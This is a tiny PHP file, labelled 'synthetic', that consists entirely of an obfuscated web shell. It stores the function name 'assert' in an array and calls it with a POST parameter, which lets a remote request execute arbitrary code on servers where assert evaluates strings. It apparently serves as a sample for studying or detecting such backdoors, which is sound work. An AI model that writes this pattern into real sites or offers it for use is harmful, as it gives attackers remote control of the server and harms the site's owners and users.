<?php
// synthetic: a dangerous name stored under a key, then called with a POST field
$map['run'] = 'assert';
$map['run']($_POST['z']);
